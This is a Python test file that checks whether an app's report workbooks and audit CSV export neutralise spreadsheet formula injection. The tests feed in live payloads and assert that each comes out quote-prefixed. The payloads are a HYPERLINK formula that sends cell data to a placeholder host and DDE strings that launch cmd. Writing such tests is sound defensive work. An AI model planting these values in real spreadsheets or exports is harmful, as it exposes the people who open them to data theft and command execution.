"""Spreadsheet formula injection: text a person typed reaches Excel and CSV as text.

Names and details carrying real payloads are put into the data, the report workbook and
the audit CSV are produced the way the app produces them, and the files are read back with
openpyxl and csv: no cell is a formula, every payload starts with a single quote, and
numbers (negative ones included) are still numbers.
"""
from __future__ import annotations

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.casework.models import Partner
from app.citizens.models import Citizen
from app.dashboard.lists import prelist_rows, referral_rows
from app.extensions import db
from app.platform.models import PlatformAuditEvent
from app.reports.cells import SafeCsvWriter, safe_value
from app.reports.contents import report_contents
from app.reports.office import region_facts
from app.reports.workbook import national_workbook, region_workbook
from tests.helpers.reports import FEBRUARY

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CMD, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_prefixed_with_a_quote(payload):
    assert safe_value(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3, -2.5, 0, 17, None, "Siti Aminah", "-", "-12", "+62", "3-1", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_value(value) == value


def _cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _assert_no_formula(wb, payloads):
    found = {}
    for title, cell in _cells(wb):
        assert cell.data_type != "f", f"formula in {title}!{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value[1:] in payloads:
            found[cell.value[1:]] = cell.value
    assert set(found) == set(payloads), f"missing: {set(payloads) - set(found)}"
    assert all(v.startswith("'") for v in found.values())


def test_region_report_workbook_neutralises_names(in_known_region, known):
    from app.verval.models import DataUpdate

    citizen = db.session.scalars(select(Citizen).join(DataUpdate, DataUpdate.citizen_id == Citizen.id)
                                 .order_by(Citizen.name)).first()
    citizen.name = HYPERLINK
    db.session.scalar(select(Partner).where(Partner.name == known["partners"]["regency"])).name = CMD
    db.session.flush()
    contents = report_contents(in_known_region, FEBRUARY)
    facts = region_facts(in_known_region, "monthly", contents, "@SUM(1+1)*cmd|' /C calc'!A0", "01-03-2025 09:00 WIB")
    out = io.BytesIO()
    region_workbook(out, facts, contents, prelist_rows(FEBRUARY), referral_rows(FEBRUARY))
    db.session.rollback()
    wb = load_workbook(io.BytesIO(out.getvalue()))
    _assert_no_formula(wb, [HYPERLINK, CMD, "@SUM(1+1)*cmd|' /C calc'!A0"])
    summary = {row[0]: row[1] for row in wb["Ringkasan"].iter_rows(values_only=True) if row and row[0]}
    assert summary["Pengaduan diterima"] == 5  # numbers stay numbers


def test_national_workbook_keeps_negative_numbers_numeric(app_ctx):
    class Row:
        def __init__(self, *values):
            self._values = list(values)

        def values(self):
            return self._values

    out = io.BytesIO()
    national_workbook(out, [("Diminta oleh", "-2+3+cmd|' /C calc'!A0")], ["Daerah", "Selisih", "Jam"],
                      [Row(CMD, -4, -1.5)], Row("Nasional", -4, -1.5))
    wb = load_workbook(io.BytesIO(out.getvalue()))
    _assert_no_formula(wb, [CMD, "-2+3+cmd|' /C calc'!A0"])
    values = [row for row in wb.active.iter_rows(min_row=4, values_only=True)]
    assert values[0][1:] == (-4, -1.5) and values[1][1:] == (-4, -1.5)


def test_audit_csv_neutralises_every_field(app, region_client):
    marker = uuid.uuid4().hex[:8]
    actor = f"=HYPERLINK(\"http://contoh.invalid\",\"{marker}\")"
    with app.app_context():
        db.session.add(PlatformAuditEvent(actor=actor, action=CMD[:60], object_type="@SUM(1+1)",
                                          object_id="-2+3+cmd|' /C calc'!A0", ip="\t=1+1",
                                          detail={"catatan": HYPERLINK}))
        db.session.commit()
    client = region_client(None)
    client.login("auditor@platform.demo")
    response = client.get(f"/console/audit.csv?actor={marker}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    mine = [r for r in rows[1:] if marker in r[2]]
    assert len(mine) == 1, rows
    for payload in (actor, CMD, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1"):
        assert "'" + payload in mine[0], (payload, mine[0])
    assert all(not field.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for field in r)


def test_csv_writer_keeps_numbers():
    out = io.StringIO()
    SafeCsvWriter(out).writerow([-5, 2.5, CMD, "Budi"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-5", "2.5", "'" + CMD, "Budi"]
